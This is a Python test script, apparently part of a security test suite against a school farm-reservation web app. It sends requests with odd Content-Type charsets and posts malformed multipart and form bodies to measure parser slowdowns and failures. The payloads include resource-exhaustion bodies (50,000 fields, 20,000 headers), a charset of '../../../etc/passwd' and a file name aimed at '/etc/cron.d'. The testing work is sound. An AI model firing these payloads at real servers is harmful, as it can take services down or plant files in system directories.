"""Encodings that a Content-Type names, and bodies of forms that take long to parse."""

import time

from proofs.support.attack_report import Report
from proofs.support.attacked_school import School
from proofs.support.raw_http import Caller

CHARSETS = {
    "a compression": "zlib",
    "another compression": "bz2",
    "digits": "hex",
    "base64": "base64",
    "a cipher": "rot13",
    "names of hosts": "idna",
    "a quadratic one": "punycode",
    "escapes": "unicode_escape",
    "raw escapes": "raw_unicode_escape",
    "none at all": "undefined",
    "seven bits": "utf-7",
    "two bytes a letter": "utf-16",
    "an unknown one": "klingon",
    "a path": "../../../etc/passwd",
    "10,000 letters": "u" * 10_000,
    "quoted": '"utf-8; x"',
    "UTF-8": "utf-8",
}
SECONDS = 5.0
MARK = "----attack"


def attack(school: School, report: Report) -> None:
    alice, bearer = school.browser("alice"), school.program("alice")
    multipart = _part('name="text"', b"x%41") + f"--{MARK}--\r\n".encode()
    for front, port in school.fronts.items():
        for variant, charset in CHARSETS.items():
            kind = f"; charset={charset}"
            tries: list[tuple[Caller, str, str, bytes, str]] = [
                (school.stranger(), "GET", "/sign-in/?next=%2Ffarm%2F", b"", "text/plain"),
                (school.stranger(), "GET", "/sign-in/?" + "&".join(f"a{n}" for n in range(1100)), b"", "text/plain"),
                (alice, "GET", "/farm/?q=" + "%C3%A9a" * 1500, b"", "application/x-www-form-urlencoded"),
                (alice, "POST", "/account/theme/", b"theme=%64ark&next=%2F", "application/x-www-form-urlencoded"),
                (alice, "POST", "/account/theme/", multipart, f"multipart/form-data; boundary={MARK}"),
                (bearer, "POST", "/api/v1/farm/reservations/", b'{"purpose": "\xc3\xa9"}', "application/json"),
                (bearer, "POST", "/api/v1/farm/reservations/", multipart, f"multipart/form-data; boundary={MARK}"),
                (bearer, "POST", "/Reservation", b'{"date_debut": "\xc3\xa9"}', "application/json"),
                (school.stranger(), "POST", "/api/v1/token/", b'{"username": "x"}', "application/json"),
                (school.stranger(), "POST", "/_git_hook", b"payload=%7B%7D", "application/x-www-form-urlencoded"),
            ]  # fmt: skip
            for caller, method, target, body, content_type in tries:
                _send(report, f"{variant} ({front})", caller.at(port), method, target, body, content_type + kind)
    _forms(report, alice)


def _send(
    report: Report, variant: str, caller: Caller, method: str, target: str, body: bytes, content_type: str
) -> None:
    began = time.monotonic()
    answer = caller.send(method, target, body, headers=[("Content-Type", content_type)])
    took = time.monotonic() - began
    effect = f"it took {took:.0f} s" if took > SECONDS else ""
    report.attempt(variant, caller, f"{method} {target[:40]} as {content_type}", answer, effect=effect)


def _part(values: str, body: bytes, *headers: str) -> bytes:
    lines = [f"--{MARK}", f"Content-Disposition: form-data; {values}", *headers, "", ""]
    return "\r\n".join(lines).encode() + body + b"\r\n"


def _forms(report: Report, alice: Caller) -> None:
    """Forms with too many parts, of odd shapes."""
    end, form = f"--{MARK}--\r\n".encode(), f"multipart/form-data; boundary={MARK}"
    bodies = {
        "50,000 fields": ("application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(50_000))),
        "20,000 parts": (form, b"".join(_part(f'name="a{n}"', b"") for n in range(20_000)) + end),
        "5,000 files": (form, b"".join(_part(f'name="f"; filename="{n}"', b"") for n in range(5000)) + end),
        "a header of 500 kB": (form, _part('name="a"', b"x", "X-Long: " + "a" * 500_000) + end),
        "20,000 headers": (form, _part('name="a"', b"x", *[f"X-{n}: a" for n in range(20_000)]) + end),
        "no end": (form, _part('name="a"', b"x" * 100_000)),
        "no name": (form, _part("", b"x") + end),
        "a name in 9 encodings": (form, _part("name*=utf-7''%2BADw-", b"x") + _part("name*=zlib''%41", b"x") + end),
        "a broken base64": (form, _part('name="a"; filename="a"', b"?" * 9, "Content-Transfer-Encoding: base64") + end),
        "a boundary of 10 kB": (f"multipart/form-data; boundary={'b' * 10_000}", b"x"),
        "no boundary": ("multipart/form-data", b"x"),
        "a boundary outside ASCII": ("multipart/form-data; boundary=\xe9", b"x"),
        "a file name that leaves": (form, _part('name="f"; filename="../../../../etc/cron.d/x"', b"x") + end),
        "a file name of NUL": (form, _part('name="f"; filename="a\0b"', b"x") + end),
        "a part within a part": (form, _part('name="a"', b"x", "Content-Type: multipart/mixed; boundary=c") + end),
        "only line ends": (form, b"\r\n" * 100_000),
    }
    for variant, (content_type, body) in bodies.items():
        for target in ("/account/theme/", "/admin/farm/machine/import/", "/api/v1/farm/reservations/"):
            _send(report, variant, alice, "POST", target, body, content_type)
